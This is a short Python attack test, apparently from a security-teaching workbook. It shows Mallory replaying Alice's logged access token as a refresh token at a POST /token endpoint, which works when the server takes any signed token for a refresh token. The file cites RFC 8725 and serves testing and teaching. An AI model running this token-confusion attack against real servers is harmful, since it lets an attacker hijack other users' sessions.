"""Mallory reads Alice's access token in a log. It ends in minutes, so she renews it in time.

It works where the token address takes every signed token for a refresh token.
"""

from workbook.attacking import Api, NoSuchRoute, attack, reach


@attack(
    "Renew an access token as if it were a refresh token",
    route="POST /token",
    closes=12,
    see="RFC 8725 §3.12",
    catches="RF-02",
)
def access_token_as_refresh_token(api: Api) -> str | None:
    alice = api.alice
    form = {"grant_type": "password", **alice.credentials}
    seen = reach(api.post("/token", form=form, caller=alice.username))
    if "refresh_token" not in (seen.json or {}):
        raise NoSuchRoute("a refresh token in the token answer")
    logged = {"grant_type": "refresh_token", "refresh_token": str(seen.json["access_token"])}
    seen = api.post("/token", form=logged, caller="mallory")
    return "fresh tokens for Alice, for a token out of a log" if seen.status == 200 else None
